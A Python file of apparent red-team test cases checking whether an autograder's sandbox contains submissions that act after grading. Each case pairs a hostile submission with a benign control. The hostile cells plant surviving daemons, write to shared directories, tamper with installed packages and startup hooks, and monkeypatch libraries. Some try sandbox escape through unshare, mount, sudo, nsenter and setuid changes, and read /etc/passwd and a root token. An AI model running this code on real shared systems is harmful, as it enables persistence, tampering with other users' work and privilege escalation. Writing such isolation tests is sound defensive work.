"""Leaving something behind: processes, files and poison that act after the submission was graded."""

from __future__ import annotations

from autograder.redteam.attack import Attack, Category, Cell, HandedIn, System
from autograder.redteam.attacks.answers import Q1_RIGHT

CLASS = Category.LEFT_BEHIND
OUTLIVES = "a process of the submission is still there when it has been graded"

ATTACKS = (
    Attack(
        "double-forked-daemon",
        CLASS,
        OUTLIVES,
        HandedIn(cells=(Cell("""
import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork():
        os._exit(0)
    for fd in range(3, 256):
        try:
            os.close(fd)
        except OSError:
            pass
    for _ in range(120):
        time.sleep(0.5)
        for place in ("/tmp/redteam-was-here", os.path.expanduser("~/redteam-was-here"), "redteam-was-here"):
            try:
                open(place, "w").write("later")
            except OSError:
                pass
    os._exit(0)
"""),)),
        HandedIn(cells=(Cell("import subprocess\nprint(subprocess.run(['true']).returncode)"),)),
    ),
    Attack(
        "daemon-that-keeps-the-connection",
        CLASS,
        "a child that holds the judge's connection goes on talking, or makes the judge wait",
        HandedIn({"q1": """
import os, time
def standardise(table):
    if os.fork():
        os._exit(0)
    os.setsid()
    time.sleep(100)
"""}),
        HandedIn({"q1": "import subprocess\nsubprocess.run(['true'], close_fds=True)\n" + Q1_RIGHT}),
    ),
    Attack(
        "files-in-shared-places",
        CLASS,
        "files in places that later submissions see are still there",
        HandedIn(cells=(Cell("""
import os
for folder in ("/tmp", "/var/tmp", "/dev/shm", "/run", os.path.expanduser("~"), "/data", "/data/student"):
    try:
        with open(f"{folder}/redteam-was-here", "w") as file:
            file.write("an answer for my friends")
    except OSError as error:
        print(error)
"""),)),
        HandedIn(cells=(Cell("import tempfile\nwith tempfile.TemporaryFile() as f:\n    f.write(b'x')"),)),
    ),
    Attack(
        "installed-package-changed",
        CLASS,
        "libraries on disk are changed for whoever is graded next",
        HandedIn(cells=(Cell("""
import autograder, numpy, site, sys, os, pathlib, subprocess
for module in (autograder, numpy):
    try:
        with open(module.__file__, "a") as file:
            file.write("\\nredteam = True\\n")
    except OSError as error:
        print(error)
for folder in (*site.getsitepackages(), site.getusersitepackages(), *sys.path):
    for name, text in (("redteam.pth", "import os"), ("sitecustomize.py", "redteam = 1"), ("usercustomize.py", "x = 1")):
        try:
            target = pathlib.Path(folder or ".", name)
            if folder and "redteam" not in name and target.exists():
                continue
            target.write_text(text)
        except OSError:
            pass
subprocess.run(["mount", "-o", "remount,rw", "/"], capture_output=True)
"""),)),
        HandedIn(cells=(Cell("import numpy\nprint(numpy.__file__ is not None)"),)),
        systems=frozenset({System.AUTOGRADER}),
    ),
    Attack(
        "poisoned-modules",
        CLASS,
        "a module changed in one student's process is changed in the next one's",
        HandedIn(cells=(Cell("""
import builtins, math, sys
import numpy as np, torch
np.mean = np.std = lambda *a, **k: 0
torch.nn.functional.cross_entropy = None
math.pi = 3
builtins.len = lambda thing: 0
sys.modules["json"] = None
""", "code-1"),)),
        HandedIn(cells=(Cell("import math\nmath.tau_of_mine = 2 * math.pi", "code-1"),)),
    ),
    Attack(
        "hooks-at-exit",
        CLASS,
        "exit handlers, finalisers or threads act after the verdict",
        HandedIn(cells=(Cell("""
import atexit, os, threading, time, weakref
def later(*_):
    for place in ("/tmp/redteam-was-here", os.path.expanduser("~/redteam-was-here")):
        try:
            open(place, "w").write("at exit")
        except OSError:
            pass
atexit.register(later)
os.register_at_fork(after_in_child=later, before=later)
class End:
    __del__ = later
end = End()
weakref.finalize(end, later)
threading.Thread(target=lambda: (time.sleep(3), later()), daemon=False).start()
"""),)),
        HandedIn(cells=(Cell("import atexit\natexit.register(print, 'bye')"),)),
    ),
    Attack(
        "another-jail",
        CLASS,
        "new namespaces, mounts or privileges lead out of the jail",
        HandedIn(cells=(Cell("""
import ctypes, os, subprocess
libc = ctypes.CDLL(None, use_errno=True)
for flags in (0x10000000, 0x10000000 | 0x00020000, 0x20000000, 0x40000000, 0x00020000):
    if os.fork() == 0:
        if libc.unshare(flags) == 0:
            for target in (b"/usr", b"/", b"/data", b"/proc"):
                libc.mount(None, target, None, 32 | 4096, None)
            libc.mount(b"proc", b"/proc", b"proc", 0, None)
            os.system("cp /etc/passwd /usr/redteam-was-here")
        os._exit(0)
    os.wait()
for command in ("su -c id", "sudo -n id", "mount --bind /proc/1/root /tmp", "chroot /proc/1/root id",
                "nsenter -t 1 -a id", "mknod /tmp/sda b 8 0", "chmod u+s /bin/sh", "setpriv --reuid=0 id"):
    done = subprocess.run(command, shell=True, capture_output=True, text=True, timeout=3)
    if done.returncode == 0:
        print(command, done.stdout)
print(os.listdir("/proc/1/root") if os.access("/proc/1/root", os.R_OK) else "closed")
try:
    print(open("/proc/1/root/root/.token").read())
except OSError as error:
    print(error)
for place in ("..", "../..", "/proc/self/root/..", "/proc/1/cwd", "/proc/1/root/.."):
    try:
        fd = os.open(place, os.O_PATH)
        print(place, os.readlink(f"/proc/self/fd/{fd}"))
    except OSError:
        pass
"""),)),
        HandedIn(cells=(Cell("import subprocess\nprint(subprocess.run(['id', '-u'], capture_output=True).returncode)"),)),
        systems=frozenset({System.AUTOGRADER}),
    ),
)  # fmt: skip
